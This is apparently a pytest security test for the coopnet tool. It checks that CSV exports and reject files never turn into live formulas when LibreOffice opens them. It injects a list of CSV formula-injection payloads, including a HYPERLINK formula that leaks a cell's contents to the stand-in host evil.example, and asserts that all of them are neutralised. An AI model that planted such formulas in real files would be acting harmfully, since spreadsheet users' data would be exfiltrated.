"""No CSV coopnet writes becomes a formula in a spreadsheet (issue 12 §5).

Checked as a user's spreadsheet reads the files: LibreOffice headless opens each CSV
(``;``, UTF-8, formulas evaluated as by default) and converts it to XLSX; no cell may be a
formula, and the rejected text is still there to read.
"""

from __future__ import annotations

import csv
import shutil
import sqlite3
import subprocess

import openpyxl
import pytest

from coopnet.resources import sample_dir
from tests.helpers import run_cli

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"clic")'
PAYLOADS = (LINK, "=1+1", "+1+1", "-1+1", "@SUM(1;2)", "\t=1+1", "\r=1+1")

pytestmark = [
    pytest.mark.security,
    pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed"),
]


def _as_spreadsheet(csv_files, tmp_path):
    """{name: rows of (value, is_formula)} as LibreOffice reads the CSV files."""
    out = tmp_path / "lo"
    subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/lo-profile",
            "--infilter=CSV:59,34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            *map(str, csv_files),
        ],
        check=True,
        capture_output=True,
        timeout=240,
    )
    sheets = {}
    for f in csv_files:
        ws = openpyxl.load_workbook(out / (f.stem + ".xlsx")).active
        sheets[f.name] = [[(c.value, c.data_type == "f") for c in row] for row in ws.iter_rows()]
    return sheets


def test_exports_and_reject_files_hold_no_formula(sample_project_path, tmp_path):
    # A phone that arrived by merge, names and notes with formulas.
    conn = sqlite3.connect(sample_project_path)
    ids = [r[0] for r in conn.execute("SELECT id FROM pledges ORDER BY id LIMIT ?", (len(PAYLOADS),))]
    for pid, text in zip(ids, PAYLOADS):
        conn.execute(
            "UPDATE pledges SET phone = ?, last_name = ?, first_name = ?, email = ?, "
            "tier = ?, volunteer = ? WHERE id = ?",
            (text, text, text, text, text, text, pid),
        )
    conn.commit()
    conn.close()
    export = tmp_path / "promesses.csv"
    rc, _, err = run_cli("export", "pledges", str(sample_project_path), str(export), "--lang", "fr")
    assert rc == 0, err

    # A pledge spreadsheet whose names are formulas: rejected, into the reject file.
    with (sample_dir() / "promesses-excel-fr.csv").open(encoding="cp1252", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    header, body = rows[0], [list(r) for r in rows[1:4]]
    for row, text in zip(body, (LINK, "=1+1", "@SUM(1;2)")):
        row[0] = text
    src = tmp_path / "entrant.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows([header, *body])
    pledge_rejects = tmp_path / "promesses-rejets.csv"
    rc, _, err = run_cli(
        "import", "pledges", str(sample_project_path), str(src), "--reject-file", str(pledge_rejects)
    )
    assert rc == 0, err

    # A BAN file with formulas in rejected rows.
    with (sample_dir() / "adresses-78-sample.csv").open(encoding="utf-8", newline="") as fh:
        ban = list(csv.reader(fh, delimiter=";"))
    bh, brows = ban[0], [list(r) for r in ban[1:6]]
    brows[0][bh.index("lon")] = LINK
    brows[1][bh.index("numero")] = "=1+1"
    ban_src = tmp_path / "adresses.csv"
    with ban_src.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows([bh, *brows])
    ban_rejects = tmp_path / "adresses-rejets.csv"
    rc, _, err = run_cli(
        "import",
        "addresses",
        str(sample_project_path),
        str(ban_src),
        "--reject-file",
        str(ban_rejects),
        "--allow-removals",
    )
    assert rc == 0, err

    sheets = _as_spreadsheet([export, pledge_rejects, ban_rejects], tmp_path)
    for name, rows in sheets.items():
        formulas = [v for row in rows for v, f in row if f]
        assert formulas == [], f"{name}: formula cells {formulas}"
    # The rejected text stays readable (shown with a leading apostrophe, never run).
    texts = [str(v) for row in sheets[pledge_rejects.name] for v, _ in row if v is not None]
    assert any(LINK in t for t in texts)
    texts = [str(v) for row in sheets[ban_rejects.name] for v, _ in row if v is not None]
    assert any(LINK in t for t in texts)
    texts = [str(v) for row in sheets[export.name] for v, _ in row if v is not None]
    assert any(LINK in t for t in texts)
